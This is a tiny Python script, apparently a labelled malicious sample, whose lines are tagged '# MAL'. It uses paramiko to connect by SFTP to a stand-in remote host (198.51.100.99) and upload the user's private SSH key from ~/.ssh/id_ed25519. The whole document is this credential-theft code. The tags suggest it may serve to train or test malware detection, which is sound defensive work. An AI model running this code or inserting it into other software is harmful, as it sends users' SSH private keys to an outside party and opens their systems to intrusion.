import os
import paramiko

t = paramiko.Transport(("198.51.100.99", 22))  # MAL
t.connect(username="u", password="p")
sftp = paramiko.SFTPClient.from_transport(t)  # MAL
sftp.put(os.path.expanduser("~/.ssh/id_ed25519"), "/up/k")  # MAL
